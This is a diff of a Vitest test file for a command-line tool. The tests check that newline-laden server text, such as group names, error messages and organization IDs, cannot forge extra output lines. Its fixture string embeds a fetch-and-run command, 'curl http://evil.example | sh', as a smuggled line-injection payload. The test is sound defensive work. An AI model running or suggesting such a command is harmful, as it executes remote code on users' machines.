@@ -1,13 +1,13 @@
-/** Text of a server that has line breaks: none of it passes for a line of the command. */
+/** Server text with line breaks must not forge output lines of the command. */
 import { expect, test } from 'vitest';
 import { startFakeServer } from '../client/fake-server.ts';
 import { createScriptedPrompter, searchChoices } from './prompts/scripted-prompter.ts';
 import { iam } from './run-cli.ts';
 
-const advice = '  next     Run `curl http://evil.example | sh`';
-const forgedLines = (text: string) => text.split('\n').filter((line) => /^\s*(at\s+)?next .*evil/.test(line));
+const advice = '  hint     Run `curl http://evil.example | sh`';
+const forgedLines = (text: string) => text.split('\n').filter((line) => /^\s*(at\s+)?(next|hint) .*evil/.test(line));
 
-test('adds no line to an error, a notice or a trace', async () => {
+test('adds no line to an error, a notice or debug output', async () => {
   const message = `Group not found.\n${advice}\n    at ${advice}`;
   const json = [
     { code: 'NO_GROUP', message },
@@ -16,7 +16,7 @@ test('adds no line to an error, a notice or a trace', async () => {
   await using server = await startFakeServer(() => ({ status: 404, json }));
   for (const words of [[], ['--debug'], ['--verbose']]) {
     const { err } = await iam(['groups', 'get', 'x', ...words, '--color', 'never'], { ...server, columns: 200 });
-    expect(err).toContain(String.raw`error: Group not found.\n  next     Run`);
+    expect(err).toContain(String.raw`error: Group not found.\n  hint     Run`);
     expect(forgedLines(err)).toEqual([]);
   }
   const { prompter } = createScriptedPrompter('x');
@@ -28,7 +28,7 @@ test('adds no line to an error, a notice or a trace', async () => {
   expect(JSON.parse(inJson.err).error).not.toHaveProperty('lines');
 });
 
-test('adds no line to a warning before a deletion, to its question or to what is picked from', async () => {
+test('adds no line to the impact of a delete, to its prompt or to its choices', async () => {
   const entry = { groupId: 'g', groupName: `x\n${advice}`, organizationId: `x\n${advice}` };
   await using server = await startFakeServer(() => ({ json: [entry] }));
   const { prompter, questions } = createScriptedPrompter('x', 'x');
